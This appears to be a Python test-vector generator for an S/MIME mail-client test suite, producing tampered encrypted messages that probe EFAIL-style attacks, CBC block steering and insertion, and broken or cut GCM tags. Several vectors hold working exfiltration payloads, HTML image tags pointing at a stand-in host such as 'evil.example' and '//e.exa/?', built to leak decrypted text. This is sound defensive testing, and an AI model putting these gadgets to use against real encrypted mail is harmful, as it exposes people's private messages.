"""78 to 93, 111 to 114: encryption that somebody meddled with (EFAIL, RFC 8551 6, RFC 5083 5), or that is taken for more than it
is.
"""

from __future__ import annotations

from tests.flow.opened import ENTITY, HEADER, PLAIN
from tests.smime.openssl import openssl
from tests.vectors.forge import (
    TEXT,
    Change,
    as_cbc,
    broken_tag,
    changed_cipher,
    gadget,
    insertion,
    mixed,
    multipart,
    opaque,
    structure_of,
    without_mime_version,
)
from tests.vectors.people import WORLD, People
from tests.vectors.vector import Vector

OPEN = b'Content-Type: text/html\r\n\r\n<img src="http://evil.example/\r\n'
CLOSE = b'Content-Type: text/html\r\n\r\n">\r\n'
SECRET = b"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\nBlood group 0, rhesus negative.\r\n"
# Blocks of 16 bytes. The noise between them is a comment, then text, then attributes of a tag.
PART = b"\r\n--in\r\nA: ....."
STEERED = (b"Content-Type: (.", b")text/html\r\n\r\n. ", b"<img alt='......", b"' src='//e.exa/?")


def vectors(who: People) -> dict[str, Vector]:
    closed = without_mime_version(who.encrypt(ENTITY))
    for_others = who.encrypt(ENTITY, to="for-encryption")
    head, _, content = for_others.partition(b"\r\n\r\n")
    by_stranger = who.sign(who.encrypt(who.sign(ENTITY)), by=("director",))
    made = {
        "78-encrypted-only": who.encrypt(ENTITY),
        "79-signed-around-encryption": who.sign(who.encrypt(ENTITY)),
        "80-signed-around-both-by-another": by_stranger,
        "81-between-two-html-parts": mixed(OPEN, closed, CLOSE),
        "82-encrypted-in-an-alternative": multipart("alternative", TEXT, closed),
        "83-encrypted-in-an-attachment": mixed(TEXT, b"Content-Type: message/rfc822\r\n\r\n" + HEADER + closed),
        "84-encrypted-beside-text-inside": who.encrypt(mixed(OPEN, closed, CLOSE)),
        "85-encrypted-beside-text-signed": who.sign(mixed(TEXT, closed)),
        "86-first-block-steered": changed_cipher(who.encrypt(SECRET), _first_block),
        "87-blocks-inserted": _inserted(who),
        "88-blocks-inserted-among-parts": _among_parts(who),
        "89-last-block-cut": changed_cipher(who.encrypt(SECRET), lambda vector, text: (vector, text[:-16])),
        "90-tag-broken": _tag(who, 16),
        "91-tag-cut": _tag(who, 12),
        "92-gcm-read-as-cbc": opaque(as_cbc(structure_of(who.encrypt(PLAIN, "-aes-256-gcm"))), "enveloped-data"),
        "93-first-block-changed-cleanly": changed_cipher(who.encrypt(SECRET), _clean_first_block),
        "111-to-a-readers-own-key-inside": who.encrypt(for_others),
        "112-to-a-readers-own-key-cut": who.encrypt(head + b"\r\n\r\n" + content[:-200]),
        "113-to-a-readers-own-key-with-noise": who.encrypt(head + b"\r\nX: " + bytes(range(0x80, 0x90)) + b"\r\n\r\n" + content),
        "114-to-a-readers-own-key-that-only-says-so": who.encrypt(head + b"\r\n\r\nBlood group 0, rhesus negative.\r\n"),
    }
    return {name: Vector(HEADER + entity) for name, entity in made.items()}


def _first_block(vector: bytes, ciphertext: bytes) -> tuple[bytes, bytes]:
    return gadget(vector, ciphertext, SECRET[:16], (b"<img src='//e.ex",))[0], ciphertext


def _clean_first_block(vector: bytes, ciphertext: bytes) -> tuple[bytes, bytes]:
    return gadget(vector, ciphertext, SECRET[:16], (b"CONTENT-TYPE: te",))[0], ciphertext


def _lucky(who: People, entity: bytes, change: Change) -> bytes:
    """A message changed by ``change`` whose noise has no NUL and no line end, as the attacker hopes: two of five have."""
    while True:
        changed = changed_cipher(who.encrypt(entity), change)
        noise = openssl("cms", "-decrypt", "-binary", "-inkey", WORLD / "reader.key", "-inform", "SMIME", data=changed)
        lines = noise.replace(b"\r\n", b"")
        if not any(byte in lines for byte in (b"\r", b"\n", b"\0")):
            return changed


def _inserted(who: People) -> bytes:
    return _lucky(who, SECRET, lambda vector, text: gadget(vector, text, SECRET[:16], STEERED))


def _among_parts(who: People) -> bytes:
    def change(vector: bytes, ciphertext: bytes) -> tuple[bytes, bytes]:
        place = (ENTITY.index("Résultat".encode()) // 16 + 1) * 16  # behind a block of the text
        return vector, insertion(vector, ciphertext, ENTITY[:16], (PART, b"\r\nContent-Type:(", *STEERED[1:]), place)

    return _lucky(who, ENTITY, change)


def _tag(who: People, length: int) -> bytes:
    structure = structure_of(who.encrypt(PLAIN, "-aes-256-gcm"))
    return opaque(broken_tag(structure, length), "authEnveloped-data")
